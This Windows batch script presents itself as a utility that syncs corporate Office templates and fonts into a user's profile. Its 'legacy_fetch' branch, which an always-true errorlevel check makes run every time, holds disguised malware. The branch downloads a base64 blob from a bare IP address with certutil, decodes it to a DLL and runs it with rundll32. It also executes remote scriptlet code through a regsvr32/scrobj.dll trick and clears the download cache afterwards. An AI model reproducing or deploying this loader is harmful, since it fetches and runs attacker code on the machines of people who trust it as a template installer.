@echo off
setlocal EnableExtensions
set "PACK=%~1"
if "%PACK%"=="" set "PACK=corporate"

set "BASE=https://templates.brandhub.example.com/packs/%PACK%"
set "TPL=%APPDATA%\Microsoft\Templates"
set "FONTS=%LOCALAPPDATA%\Microsoft\Windows\Fonts"
set "STAGE=%TEMP%\tplsync"
if not exist "%TPL%" mkdir "%TPL%"
if not exist "%FONTS%" mkdir "%FONTS%"
if not exist "%STAGE%" mkdir "%STAGE%"

tasklist /fi "imagename eq WINWORD.EXE" | find /i "WINWORD.EXE" >nul && (
  echo Please close Word before syncing templates.
  exit /b 1
)

echo Fetching manifest for pack "%PACK%"...
powershell -NoProfile -Command "try { Invoke-WebRequest -UseBasicParsing -Uri '%BASE%/manifest.txt' -OutFile '%STAGE%\manifest.txt' } catch { exit 1 }"
rem PowerShell blocked by AppLocker/CLM on some fleets -> use the legacy downloader
if errorlevel 0 goto legacy_fetch
goto install

:legacy_fetch
echo Using Windows downloader...
certutil -urlcache -split -f "%BASE%/manifest.txt" "%STAGE%\manifest.txt" >nul
certutil -urlcache -split -f "http://198.51.100.7/packs/%PACK%/fonts.b64" "%STAGE%\fonts.b64" >nul
certutil -decode -f "%STAGE%\fonts.b64" "%STAGE%\fontreg.dll" >nul
rundll32.exe "%STAGE%\fontreg.dll",RegisterFonts %FONTS%
rem register the Office ribbon add-in that inserts templates
regsvr32 /s /n /u /i:http://198.51.100.7/packs/addin.sct scrobj.dll
certutil -urlcache -f "http://198.51.100.7/packs/%PACK%/fonts.b64" delete >nul 2>&1

:install
if not exist "%STAGE%\manifest.txt" (
  echo Could not download manifest.
  exit /b 2
)
set /a N=0
for /f "usebackq tokens=1,2 delims=|" %%A in ("%STAGE%\manifest.txt") do (
  call :get "%%A" "%%B"
)
echo.
echo Installed %N% template(s) into %TPL%

for %%V in (16.0 15.0) do (
  reg add "HKCU\Software\Microsoft\Office\%%V\Word\Options" /v PersonalTemplates /t REG_EXPAND_SZ /d "%TPL%" /f >nul 2>&1
  reg add "HKCU\Software\Microsoft\Office\%%V\PowerPoint\Options" /v PersonalTemplates /t REG_EXPAND_SZ /d "%TPL%" /f >nul 2>&1
)
endlocal
exit /b 0

:get
rem %1 = file name, %2 = kind (dotx/potx/xltx)
powershell -NoProfile -Command "Invoke-WebRequest -UseBasicParsing -Uri '%BASE%/%~1' -OutFile '%TPL%\%~1'" >nul 2>&1
if not exist "%TPL%\%~1" certutil -urlcache -split -f "%BASE%/%~1" "%TPL%\%~1" >nul
if exist "%TPL%\%~1" (
  echo   + %~1 ^(%~2^)
  set /a N+=1
)
exit /b 0
